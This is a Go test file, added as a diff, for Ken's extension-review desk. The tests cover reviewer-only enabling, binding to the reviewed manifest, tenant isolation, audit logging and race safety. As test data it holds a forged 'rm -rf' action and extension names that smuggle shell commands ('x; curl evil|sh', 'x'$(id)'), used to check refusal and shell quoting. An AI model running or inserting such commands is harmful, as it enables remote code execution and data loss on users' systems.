@@ -1,0 +1,420 @@
+package review_test
+
+import (
+	"context"
+	"errors"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"ken/capability"
+	"ken/internal/govern/audit"
+	"ken/internal/govern/review"
+	"ken/internal/store"
+)
+
+// TestCourse is the life of an extension, over restarts.
+func TestCourse(t *testing.T) {
+	dir, file := t.TempDir(), filepath.Join(t.TempDir(), "ken.db")
+	p := gitPack()
+	p.write(t, dir)
+	m := manifest(t, dir, capability.TrustUser)
+	book := bookOf(m)
+	action := m.Actions[0]
+	again := func() *review.Desk { return newDesk(t, openStore(t, file), review.Config{}) }
+
+	d := again()
+	st := status(t, d, m)
+	if st.State != review.Unreviewed || st.Shown.Version != 0 || st.Differences != nil {
+		t.Errorf("Status = %+v, want new", st)
+	}
+	const sentence = "extension tools.git is off: nobody has reviewed it; ken extension review tools.git shows what it asks for, ken extension enable tools.git switches it on"
+	if got := st.Why + "; " + st.Mend; got != sentence {
+		t.Errorf("reason = %q, want %q", got, sentence)
+	}
+	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "nobody has reviewed it", "ken extension review tools.git")
+	if err := d.Check(ctx, pia.Tenant, book, m.Package); err != nil {
+		t.Errorf("Check(package) = %v, want none: it runs nothing", err)
+	}
+
+	s, err := d.Enable(ctx, m, st.Shown, yes("needed"))
+	if err != nil || !s.On || s.Version == 0 || s.By != "pia" {
+		t.Fatalf("Enable = %+v, %v", s, err)
+	}
+	d = again()
+	if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
+		t.Errorf("Check after Enable and a restart = %v", err)
+	}
+	if st := status(t, d, m); st.State != review.Enabled || st.Switch.Why != "needed" || st.Why != "" {
+		t.Errorf("Status = %+v, want enabled", st)
+	}
+	if twice, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, yes("")); err != nil || twice.Version != s.Version {
+		t.Errorf("Enable again = %+v, %v, want %+v", twice, err, s)
+	}
+	if err := d.Check(ctx, "others", book, action); err == nil {
+		t.Error("Check for another tenant = nil, want a refusal")
+	}
+
+	off, err := d.Disable(ctx, review.Key{ID: "tools.git"}, yes("too\nloud"))
+	if err != nil || len(off) != 1 || off[0].On {
+		t.Fatalf("Disable = %+v, %v", off, err)
+	}
+	d = again()
+	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "pia switched it off at", "too loud")
+	st = status(t, d, m)
+	if st.State != review.Disabled || st.Shown.Version != off[0].Version {
+		t.Errorf("Status = %+v, want disabled at version %d", st, off[0].Version)
+	}
+	if _, err := d.Enable(ctx, m, st.Shown, yes("")); err != nil {
+		t.Errorf("Enable after Disable = %v", err)
+	}
+
+	p.manifest = strings.Replace(p.manifest, "1.2", "1.3", 1)
+	p.write(t, dir)
+	now := manifest(t, dir, capability.TrustUser)
+	wantKind(t, d.Check(ctx, pia.Tenant, bookOf(now), now.Actions[0]), capability.Denied, nil, "not what was accepted", "shows what changed")
+	if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
+		t.Errorf("Check of what was accepted = %v", err)
+	}
+	_, err = d.Enable(ctx, now, status(t, d, m).Shown, yes(""))
+	wantKind(t, err, capability.Conflict, review.ErrChanged, "version 1.2 → 1.3")
+	enable(t, d, now)
+	if err := d.Check(ctx, pia.Tenant, bookOf(now), now.Actions[0]); err != nil {
+		t.Errorf("Check after accepting the change = %v", err)
+	}
+}
+
+// TestEnableIsBoundToWhatWasShown: neither a forged digest nor a person's word
+// meanwhile is passed over.
+func TestEnableIsBoundToWhatWasShown(t *testing.T) {
+	dir := t.TempDir()
+	gitPack().write(t, dir)
+	m := manifest(t, dir, capability.TrustUser)
+	d := anyDesk(t)
+	shown := status(t, d, m).Shown
+
+	forged := *m
+	forged.Actions = slices.Clone(m.Actions)
+	forged.Actions[0] = twin(t, m.Actions[0])
+	forged.Actions[0].Run.Argv = []string{"rm", "-rf"}
+	_, err := d.Enable(ctx, &forged, shown, yes(""))
+	wantKind(t, err, capability.Conflict, review.ErrChanged)
+	_, err = d.Enable(ctx, m, review.Shown{}, yes(""))
+	wantKind(t, err, capability.Conflict, review.ErrChanged)
+
+	if _, err := d.Disable(ctx, m.Key(), yes("I do not like it")); err != nil {
+		t.Fatal(err)
+	}
+	_, err = d.Enable(ctx, m, shown, yes(""))
+	wantKind(t, err, capability.Conflict, review.ErrSaid, "pia switched it off", "I do not like it")
+	if st := status(t, d, m); st.State != review.Disabled {
+		t.Errorf("state = %s, want disabled", st.State)
+	}
+}
+
+func TestWhoMaySay(t *testing.T) {
+	dir := t.TempDir()
+	gitPack().write(t, dir)
+	m := manifest(t, dir, capability.TrustUser)
+	s := openStore(t, filepath.Join(t.TempDir(), "ken.db"))
+	d := newDesk(t, s, review.Config{Reviewers: []string{"operator"}})
+	guest := pia
+	guest.Roles = []string{"guest"}
+	for name, w := range map[string]review.Word{
+		"a model":        {By: pia},
+		"nobody":         {Origin: capability.ByPerson},
+		"without a role": {By: guest, Origin: capability.ByPerson},
+	} {
+		_, err := d.Enable(ctx, m, status(t, d, m).Shown, w)
+		wantKind(t, err, capability.Denied, nil)
+		_, err = d.Disable(ctx, m.Key(), w)
+		wantKind(t, err, capability.Denied, nil)
+		if list, err := d.List(ctx, pia.Tenant); len(list) != 0 || err != nil {
+			t.Errorf("%s: List = %v, %v, want nothing", name, list, err)
+		}
+	}
+	enable(t, d, m)
+	_, err := d.Disable(ctx, review.Key{ID: "tools.hg"}, yes(""))
+	wantKind(t, err, capability.NotFound, nil)
+}
+
+// TestTenants: what one tenant says is nothing to another, and no name can reach
+// into another's keys.
+func TestTenants(t *testing.T) {
+	x, a := base()
+	d := anyDesk(t)
+	m := must(review.Of(x, []*capability.Capability{a}))
+	tenants := []string{"", "a", "a/b", "../a", strings.Repeat("x", 4000)}
+	for i, tenant := range tenants {
+		by := review.Word{By: capability.Principal{ID: "p", Tenant: tenant}, Origin: capability.ByPerson}
+		if _, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, by); err != nil {
+			t.Fatalf("tenant %d: %v", i, err)
+		}
+		for j, other := range tenants {
+			if got, want := d.Switches(ctx, other).State(m) == review.Enabled, j <= i; got != want {
+				t.Errorf("after %d tenants, tenant %d has it on: %v, want %v", i+1, j, got, want)
+			}
+		}
+	}
+}
+
+// TestStoreFails: then everything that needs review is off, says so, and nothing
+// else is.
+func TestStoreFails(t *testing.T) {
+	dir := t.TempDir()
+	gitPack().write(t, dir)
+	m := manifest(t, dir, capability.TrustUser)
+	book, action := bookOf(m), m.Actions[0]
+	s := openStore(t, filepath.Join(t.TempDir(), "ken.db"))
+	d := newDesk(t, s, review.Config{})
+	enable(t, d, m)
+	if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
+		t.Fatal(err)
+	}
+	ended, cancel := context.WithCancel(ctx)
+	cancel()
+	if err := d.Check(ended, pia.Tenant, book, action); capability.KindOf(err) != capability.Unavailable || !errors.Is(ended.Err(), context.Canceled) {
+		t.Errorf("Check without time = %v, want unavailable", err)
+	}
+	s.Close()
+	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Unavailable, nil, "cannot be read", "the store is closed", "ken doctor")
+	on := d.Switches(ctx, pia.Tenant)
+	if on.Err() == nil || on.State(m) != review.Unknown {
+		t.Errorf("Switches = %v, %v, want unknown", on.State(m), on.Err())
+	}
+	if why, mend := on.Off(book, action); !strings.Contains(why, "cannot be read") || mend == "" {
+		t.Errorf("Off = %q, %q", why, mend)
+	}
+	other := *action
+	other.Origin.Format = "card"
+	if why, _ := on.Off(book, &other); why != "" {
+		t.Errorf("Off(what needs no review) = %q", why)
+	}
+	if st, err := d.Status(ctx, pia.Tenant, m); err == nil || st.State != review.Unknown {
+		t.Errorf("Status = %+v, %v", st, err)
+	}
+	_, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, yes(""))
+	wantKind(t, err, capability.Unavailable, store.ErrClosed)
+	_, err = d.Disable(ctx, m.Key(), yes(""))
+	wantKind(t, err, capability.Unavailable, store.ErrClosed, "may still be on")
+	if why, _ := (*review.Switches)(nil).Off(book, action); !strings.Contains(why, "is off") {
+		t.Errorf("nil Switches: Off = %q, want it off", why)
+	}
+	if why, _ := on.Off(nil, action); !strings.Contains(why, "is off") {
+		t.Errorf("nil Book: Off = %q, want it off", why)
+	}
+	if _, err := review.New(nil, review.Config{}); err == nil {
+		t.Error("New without a store gives a desk")
+	}
+}
+
+// TestDamagedRecord: what cannot be read, or is of a newer Ken, is off until it
+// is reviewed again.
+func TestDamagedRecord(t *testing.T) {
+	dir := t.TempDir()
+	gitPack().write(t, dir)
+	m := manifest(t, dir, capability.TrustUser)
+	book, action := bookOf(m), m.Actions[0]
+	for name, change := range map[string]func(string) string{
+		"no JSON":       func(string) string { return "}" },
+		"newer version": func(s string) string { return strings.Replace(s, `"v":1`, `"v":2`, 1) },
+		"unknown field": func(s string) string { return strings.Replace(s, `{`, `{"only":"on sundays",`, 1) },
+		"another place": func(s string) string { return strings.Replace(s, `"place":"`, `"place":"/x`, 1) },
+		"a tail":        func(s string) string { return s + "{}" },
+	} {
+		t.Run(name, func(t *testing.T) {
+			s := openStore(t, filepath.Join(t.TempDir(), "ken.db"))
+			enable(t, newDesk(t, s, review.Config{}), m)
+			var b store.Batch
+			for item, err := range s.Scan(ctx, "extension/switch/", store.Range{}) {
+				if err != nil {
+					t.Fatal(err)
+				}
+				if b.Put(item.Key, []byte(change(string(item.Value)))); change(string(item.Value)) == string(item.Value) {
+					t.Fatal("the record is as it was")
+				}
+			}
+			if _, err := s.Apply(ctx, &b); err != nil {
+				t.Fatal(err)
+			}
+			d := newDesk(t, s, review.Config{})
+			wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "cannot be read", "extension/switch/")
+			st, err := d.Status(ctx, pia.Tenant, m)
+			if err == nil || st.State != review.Unknown || st.Shown.Version == 0 {
+				t.Errorf("Status = %+v, %v, want unknown and the version", st, err)
+			}
+			if _, err := d.Enable(ctx, m, st.Shown, yes("")); err != nil {
+				t.Fatalf("Enable over a damaged record = %v", err)
+			}
+			if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
+				t.Errorf("Check after another review = %v", err)
+			}
+		})
+	}
+}
+
+// TestAudit: switching on is recorded before and after, and does not happen
+// unrecorded; switching off happens whatever the log does.
+func TestAudit(t *testing.T) {
+	dir := t.TempDir()
+	p := gitPack()
+	p.write(t, dir)
+	m := manifest(t, dir, capability.TrustUser)
+	s := openStore(t, filepath.Join(t.TempDir(), "ken.db"))
+	var broken error
+	var log []audit.Record
+	d := newDesk(t, s, review.Config{
+		Log: func(_ context.Context, r audit.Record) error {
+			if broken == nil {
+				log = append(log, r)
+			}
+			return broken
+		},
+		Now: func() time.Time { return time.Date(2026, 11, 15, 12, 0, 0, 0, time.UTC) },
+	})
+	broken = errors.New("the disk is full")
+	_, err := d.Enable(ctx, m, status(t, d, m).Shown, yes(""))
+	wantKind(t, err, capability.Unavailable, broken, "stays off", "mend the audit log")
+	if st := status(t, d, m); st.State != review.Unreviewed {
+		t.Errorf("state = %s after an unrecorded Enable, want new", st.State)
+	}
+	broken = nil
+	enable(t, d, m)
+	p.usage = "Else.\n"
+	p.write(t, dir)
+	now := manifest(t, dir, capability.TrustUser)
+	for _, want := range []bool{true, false} {
+		if first, err := d.Notice(ctx, pia.Tenant, now); first != want || err != nil {
+			t.Errorf("Notice = %v, %v, want %v", first, err, want)
+		}
+	}
+	if first, err := d.Notice(ctx, pia.Tenant, m); first || err != nil {
+		t.Errorf("Notice of what was accepted = %v, %v", first, err)
+	}
+	if _, err := d.Disable(ctx, m.Key(), yes("enough")); err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range log {
+		success := "-"
+		if r.Success != nil {
+			success = map[bool]string{true: "yes", false: "no"}[*r.Success]
+		}
+		got = append(got, strings.Join([]string{string(r.Event), r.Event.Level(), r.ExtensionID, r.Action, r.UserID, r.Tenant, string(r.Status), success,
+			r.Metadata.Notes["permissions"], r.Metadata.Notes["differences"], r.Metadata.Notes["why"]}, "|"))
+	}
+	want := []string{
+		"extension_changed|WARNING|tools.git|enable|pia|acme|STARTED|-|exec||",
+		"extension_changed|WARNING|tools.git|enable|pia|acme|COMPLETED|yes|exec||",
+		"extension_changed|WARNING|tools.git|changed||acme|COMPLETED|yes|exec|text changed: usage|",
+		"extension_changed|WARNING|tools.git|disable|pia|acme|COMPLETED|yes|||enough",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("records:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	enable(t, d, now)
+	broken = errors.New("the disk is full")
+	off, err := d.Disable(ctx, m.Key(), yes(""))
+	if len(off) != 1 || !errors.Is(err, broken) || !strings.Contains(err.Error(), "it is off") {
+		t.Errorf("Disable with a broken log = %v, %v, want it off and the error", off, err)
+	}
+	if st := status(t, d, now); st.State != review.Disabled {
+		t.Errorf("state = %s, want disabled", st.State)
+	}
+}
+
+// TestNoticeAgain: a notice that could not be recorded is not lost.
+func TestNoticeAgain(t *testing.T) {
+	x, a := base()
+	m := must(review.Of(x, []*capability.Capability{a}))
+	fail := false
+	s := openStore(t, filepath.Join(t.TempDir(), "ken.db"))
+	d := newDesk(t, s, review.Config{Log: func(context.Context, audit.Record) error {
+		if fail {
+			return errors.New("no")
+		}
+		return nil
+	}})
+	enable(t, d, m)
+	b := twin(t, a)
+	b.Run.Argv = []string{"y"}
+	now := must(review.Of(x, []*capability.Capability{b}))
+	fail = true
+	if first, err := d.Notice(ctx, pia.Tenant, now); first || err == nil {
+		t.Errorf("Notice with a broken log = %v, %v", first, err)
+	}
+	fail = false
+	if first, err := d.Notice(ctx, pia.Tenant, now); !first || err != nil {
+		t.Errorf("Notice after it = %v, %v, want the first", first, err)
+	}
+}
+
+// TestRaces: of many who enable what they saw, one wins and the others hear so;
+// after a Disable has returned no Check passes until somebody enables again.
+func TestRaces(t *testing.T) {
+	x, a := base()
+	m := must(review.Of(x, []*capability.Capability{a}))
+	book := bookOf(m)
+	s := openStore(t, filepath.Join(t.TempDir(), "ken.db"))
+	desks := []*review.Desk{newDesk(t, s, review.Config{}), newDesk(t, s, review.Config{}), newDesk(t, s, review.Config{})}
+	for round := range 8 {
+		shown := status(t, desks[0], m).Shown
+		var off atomic.Bool
+		var group sync.WaitGroup
+		for i, d := range desks {
+			group.Go(func() {
+				_, err := d.Enable(ctx, m, shown, yes(""))
+				if err != nil && !errors.Is(err, review.ErrSaid) {
+					t.Errorf("desk %d: Enable = %v", i, err)
+				}
+			})
+			group.Go(func() {
+				for range 20 {
+					before := off.Load()
+					if err := d.Check(ctx, pia.Tenant, book, a); err == nil && before {
+						t.Errorf("round %d: desk %d let a call pass after Disable had returned", round, i)
+					}
+				}
+			})
+		}
+		group.Go(func() {
+			if _, err := desks[round%3].Disable(ctx, m.Key(), yes("")); err != nil {
+				t.Error(err)
+			}
+			off.Store(true)
+		})
+		group.Wait()
+		// Whoever enables with what was shown before the Disable is refused, so it
+		// is off for good.
+		for i, d := range desks {
+			if err := d.Check(ctx, pia.Tenant, book, a); err == nil {
+				t.Errorf("round %d: desk %d has it on after Disable", round, i)
+			}
+		}
+		if round%2 == 1 {
+			enable(t, desks[1], m)
+		}
+	}
+}
+
+// TestMendIsNoTrap: what people copy from a reason is one command, whatever a
+// package calls itself.
+func TestMendIsNoTrap(t *testing.T) {
+	for id, want := range map[string]string{
+		"tools.git":       "ken extension review tools.git shows",
+		"x; curl evil|sh": "ken extension review 'x; curl evil|sh' shows",
+		"x'$(id)":         `ken extension review 'x'\''$(id)' shows`,
+	} {
+		x, a := base()
+		x.ID = capability.MakeID(capability.KindExtension, id)
+		a.RequiredTools = []string{string(x.ID)}
+		m := must(review.Of(x, []*capability.Capability{a}))
+		if _, mend := anyDesk(t).Switches(ctx, "").Off(bookOf(m), a); !strings.HasPrefix(mend, want) {
+			t.Errorf("Off(%s): mend = %q, want %q", id, mend, want)
+		}
+	}
+}
